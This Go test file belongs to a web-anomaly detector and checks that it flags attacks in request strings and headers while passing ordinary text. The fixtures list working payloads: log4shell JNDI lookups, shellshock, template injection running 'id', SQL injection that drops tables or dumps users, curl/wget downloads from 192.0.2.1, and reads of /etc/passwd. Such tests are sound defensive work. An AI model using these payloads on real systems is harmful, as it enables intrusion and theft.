package anomaly

import (
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
)

func TestAttacksOnWhatStandsBehindTheServer(t *testing.T) {
	for want, texts := range map[string][]string{
		"log4shell": {
			"${jndi:ldap://192.0.2.1:1389/a}", "x ${jndi:dns://x.example/${hostName}} y", "${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}", "$%7Bjndi:ldap://x%7D",
			"${jnd${upper:ı:-i}:ldap://x}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}", "${JNDI:LDAP://X}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "${j${k8s:k5:-ND}i:x}", "Mozilla/5.0 ${jndi:ldap://x} Firefox",
		},
		"shellshock": {"() { :;}; echo x", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "(){ :;};ping -c 1 192.0.2.1", "() { _; } >_[$($())] { echo x; }", "%28%29%20%7B%20%3A%3B%7D%3B%20id"},
		"template injection": {
			"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "{{ 7*7 }}x", "%{7*7}", "@(7*7)", "%7B%7B7*7%7D%7D", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
			"{{constructor.constructor('return 1')()}}", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "{{request.application.__globals__}}",
		},
		"sql injection": {
			"1' or '1'='1", "1' OR 1=1-- -", "' or ''='", `" or ""="`, "') or ('1'='1", "1 or 1=1", "5 AND 1=1", "5' and 1=2 -- ", "1' and '1'='1", "1/**/or/**/1=1", "'||'1'='1", "x' oR 'a'='a",
			"1 union select 1,2,3", "1' UNION ALL SELECT NULL,NULL--", "-1 union(select 1,2)", "1 union select @@version", "0 union/**/select/**/user,password/**/from/**/users", "1+union+select+1", "1%27%20or%20%271%27=%271",
			"1 and sleep(5)", "1';waitfor delay '0:0:5'--", "(select(0)from(select(sleep(15)))v)/*'+", "1'; drop table users--", "1;delete from users", "admin'--", "admin' -- ", "admin'#", "1' and extractvalue(1,concat(0x7e,version()))--",
			"0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", "1'||pg_sleep(5)--",
		},
	} {
		for _, text := range texts {
			if got, shown := WebAttack(text); got != want || shown == "" {
				t.Errorf("%q is %q (%q), want %s", text, got, shown, want)
			}
		}
	}
}

// What people write, what browsers and tools call themselves, and what shops, wikis and
// code searches are asked.
func TestHonestTexts(t *testing.T) {
	for _, text := range []string{
		"", "O'Brien", "it's 5 or 6", "rock 'n' roll", "d'Artagnan -- a life", "he said 'hello' -- and left", "'quoted' or \"quoted\"", "union select committee", "The Union selects 5 delegates", "credit union select plus", "select a union", "student union, select years",
		"1 or 2", "black or white = grey", "a=1 and b=2", "x = 5 or y = 6", "if a == b or c == d", "page=1&sort=asc", "price<=100 and size>=2", "status:open or label:'bug'", "title = \"a\" or title = \"b\"", "size=10 and 5 more",
		"python time.sleep(5)", "how does sleep(5) work", "asyncio.sleep(1)", "drop table lamp", "buy table; drop shipping", "how to drop table in mysql", "delete from cart", "insert into art", "SELECT * FROM users", "SELECT name, id FROM t WHERE a = 'b' ORDER BY 1",
		"{{name}}", "Hello {{ user.first_name }}", "${HOME}/bin", "${name}", "`${a}-${b}`", "#{title}", "{% if x %}", "<%= title %>", "{{price * 2}}", "${i++}", "50% {off}", "f() { return 1 }", "function() { return 1; }", "() => { return 1; }", "=> ()", "{}",
		"jndi lookup", "what is ${jndi", "log4j ${java:version}", "${env:HOME}", "$(document).ready(function() {})", "C#", "C# and F#", "issue #5", "'#1 dad'", "the 'best' #1", "--help", "a -- b", "don't -- really", "1990-2000", "5'10\" or 6'2\"", "3\" x 5\" -- new",
		"https://example.com/search?q=o%27reilly&page=2", "https://www.example.com/a-b--c/?x=%7B%22a%22%3A1%7D", "{\"query\":{\"match\":{\"a\":\"b\"}}}", "{\"a\":\"1\",\"b\":\"2 or 3\"}", "name eq 'a' or name eq 'b'", "$filter=Name eq 'x' and Price gt 5", "a='b'", "' '", "''",
		"Y2F0Jyc9PQ==", "eyJhbGciOiJIUzI1NiJ9", "R&D and Q&A", "100% = 100%", "1=1", "true or false", "2*(3-1)", "{7*7", "((7*7))", "benchmark(ing) your code", "(a or b) and (c or d)", "type='a' or type='b'", "1.0 or 2.0=x",
	} {
		if got, shown := WebAttack(text); got != "" {
			t.Errorf("%q is taken for %s (%q)", text, got, shown)
		}
	}
}

var honestAgents = []string{
	"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", "curl/8.5.0", "Wget/1.21.4", "python-requests/2.32.3", "Go-http-client/2.0", "Java/17.0.2", "okhttp/4.12.0", "git/2.47.0",
	"Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0; .NET4.0E; .NET4.0C; InfoPath.3)", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)", "Debian APT-HTTP/1.3 (2.6.1)", "WordPress/6.7; https://example.com",
	"Mozilla/5.0 (compatible; curl 7.0; ping 1; PHP 8.2; python 3.11; host example.com)", "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space", "kube-probe/1.31", "Prometheus/3.0.0", "ELB-HealthChecker/2.0", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +x@example.com)",
	"AppleCoreMedia/1.0.0.21G93 (Apple TV; U; CPU OS 17_6 like Mac OS X; en_us)", "Outlook-iOS/709.2226530.prod.iphone (3.24.1)", "node", "Ruby", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15", "Nuclide/1.0", "Hydrant/2",
}

var honestReferers = []string{
	"https://example.com/", "https://example.com/shop?sort=price&page=2", "https://www.google.com/search?q=it%27s+5+or+6&hl=en", "android-app://com.google.android.gm/", "https://example.com/wiki/AT%26T;x=1", "https://example.com/?a=1&id", "https://t.co/abc", "http://localhost:3000/a|b",
	"https://example.com/?q=bread+%26+butter;more", "https://example.com/search?q=Tom%20%26%20Jerry%3B%20more", "https://example.com/?filter=name;date&host=x", "https://example.com/#!/a", "https://example.com/?utm_source=a&utm_medium=b&id=5&type=x",
}

func TestHonestHeadersShowNothing(t *testing.T) {
	for _, agent := range honestAgents {
		for _, referer := range honestReferers {
			if got := (Request{Target: "/shop/items?id=58321&sort=price", Referer: referer, UserAgent: agent, Status: 200}).Events(attacker); len(got) != 0 {
				t.Fatalf("%q from %q shows %+v", agent, referer, got)
			}
		}
	}
}

func TestHeadersThatAttack(t *testing.T) {
	for _, tt := range []struct {
		agent string
		kind  Kind
		shown string
	}{
		{"${jndi:ldap://192.0.2.1/a}", WebAttacked, "log4shell: ${jndi:"}, {"() { :;}; echo x", WebAttacked, "shellshock: "}, {"Mozilla/5.0' or '1'='1", WebAttacked, "sql injection: "},
		{"sqlmap/1.8.4#stable (https://sqlmap.org)", WebAttacked, "scanner: sqlmap"}, {"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", WebAttacked, "scanner: nikto"},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", WebAttacked, "scanner: nmap"}, {"Fuzz Faster U Fool v2.1.0", WebAttacked, "scanner: ffuf"}, {"Mozilla/5.0 (Hydra)", WebAttacked, "scanner: hydra"},
		{"$(curl http://192.0.2.1/x)", Injection, "$(curl"}, {"`wget http://192.0.2.1/x`", Injection, "`wget"}, {"; wget http://192.0.2.1/x.sh", Injection, "; wget"}, {"Mozilla/5.0 (X11; Linux); cat /etc/passwd", Injection, "Mozilla"},
		{"Mozilla/5.0 (;cat /etc/passwd", Injection, "Mozilla"}, {strings.Repeat("A", 9_000) + "${jndi:ldap://x}", WebAttacked, "log4shell: ${jndi:"},
	} {
		for where, r := range map[string]Request{"agent": {UserAgent: tt.agent}, "referer": {Referer: tt.agent}} {
			if where == "referer" && strings.HasPrefix(tt.shown, "scanner") {
				continue
			}
			got := r.Events(attacker)
			if len(got) != 1 || got[0].Kind != tt.kind || !strings.HasPrefix(got[0].Detail, tt.shown) {
				t.Errorf("%s %.80q shows %+v, want %s %s", where, tt.agent, got, tt.kind, tt.shown)
			}
		}
	}
}

func TestTheMiddlewareReadsHeaders(t *testing.T) {
	r := httptest.NewRequest("GET", "/x?q=1%27+or+%271%27=%271", nil)
	r.Header.Set("User-Agent", "$(id)")
	got := askedBy(r).Events(netip.MustParseAddr("192.0.2.1"))
	if len(got) != 2 || got[0].Kind != WebAttacked || got[1].Kind != Injection {
		t.Errorf("%+v", got)
	}
}

// Whatever a client writes is read in bounded time and shown in bounded length.
func FuzzWebAttack(f *testing.F) {
	for _, s := range []string{"${${lower:j}ndi:x}", "1' or '1'='1", "{{7*7}}", "() { :;}", "union select 1", "1 or 1=1", "1+aNd/**/1=1", "1||1=1", "1 and sleep(5)", "1;delete from users", "1 waitfor delay '0:0:5'--", "1;exec xp_cmdshell 1", "((((", "${${${${", "}}}}", "';--"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		name, shown := WebAttack(s)
		if (name == "") != (shown == "") || len(shown) > mostDetail {
			t.Errorf("%q, %d bytes shown", name, len(shown))
		}
		if full, _ := webAttack(s[:min(len(s), mostRead)]); full != name {
			t.Errorf("%q is %q, and %q where nobody asks first whether it is suspect", s, name, full)
		}
		Request{UserAgent: s, Referer: s, Target: "/?" + s}.Events(attacker)
	})
}

func BenchmarkRequest(b *testing.B) {
	for name, r := range map[string]Request{
		"honest":  {Target: "/shop/items?id=58321&sort=price", Status: 200, Referer: "https://example.com/shop?sort=price", UserAgent: honestAgents[1]},
		"hostile": {Target: "/?" + strings.Repeat("${${", 256), UserAgent: strings.Repeat("' or ", 200), Referer: strings.Repeat("union ;", 140)},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				r.Events(attacker)
			}
		})
		b.Run(name+", target alone", func(b *testing.B) {
			for b.Loop() {
				Requested(attacker, r.Target, r.Status, "")
			}
		})
	}
}

// A header is looked at in full when it has any of the signs behind which a command may
// begin, be it one that parts a comment.
func TestEverySignMayBeginACommand(t *testing.T) {
	for _, c := range openers + "%" {
		if text := "x" + string(c) + "id"; !mayCommand(text) {
			t.Errorf("%q may be no command", text)
		}
		if text := "x (a" + string(c) + "id"; !mayCommand(text) {
			t.Errorf("%q, whose comment is not closed, may be no command", text)
		}
	}
	for _, text := range []string{"", "curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101"} {
		if mayCommand(text) {
			t.Errorf("%q may be a command", text)
		}
	}
}
